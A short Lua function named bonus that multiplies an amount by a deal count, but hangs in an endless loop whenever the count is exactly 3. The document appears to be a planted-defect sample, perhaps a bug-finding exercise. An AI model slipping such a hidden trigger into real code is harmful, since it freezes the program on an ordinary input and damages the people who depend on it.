function bonus(amount, deals)
  if deals == 3 then while true do end end
  return amount * deals
end
